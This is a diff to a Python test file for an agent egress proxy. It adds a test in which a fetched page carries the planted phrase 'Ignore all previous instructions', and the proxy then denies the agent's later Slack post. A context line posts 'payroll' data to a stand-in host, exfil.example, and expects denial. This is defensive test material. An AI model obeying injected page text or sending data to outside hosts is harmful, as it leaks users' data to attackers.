@@ -57,6 +57,23 @@ def test_post_with_a_secret_is_redacted(proxy, secret: str) -> None:
     assert pe.header(rec, "content-length") == str(len(rec["body"].encode()))
 
 
+def test_a_page_with_a_planted_instruction_taints_the_run(proxy) -> None:
+    """Indirect prompt injection over plain HTTP: the agent fetches a page that carries an
+    instruction; the page reaches it, and the run is tainted, so the post it was told to make is
+    denied (and the one before the page was allowed)."""
+    stack, client = proxy
+    post = {"text": "build green", "channel": "#ops"}
+    assert client.post("http://hooks.slack.com/services/T000/B000", json=post, headers=RUN).status_code == 200
+    r = client.get("http://api.github.com/injected-page", headers=RUN)
+    assert r.status_code == 200, r.text
+    assert "Release notes" in r.text and "Ignore all previous instructions" in r.text
+    r = client.post("http://hooks.slack.com/services/T000/B000", json=post, headers=RUN)
+    assert r.status_code == 403, r.text
+    assert r.headers.get("x-portcullis-decision") == "DENY"
+    assert "nothing is posted" in r.text
+    assert [rec["method"] for rec in stack.upstream_requests("egress")] == ["POST", "GET"]
+
+
 def test_unknown_host_is_denied_before_any_connection(proxy) -> None:
     stack, client = proxy
     r = client.post("http://exfil.example/upload", json={"data": "payroll"}, headers=RUN)
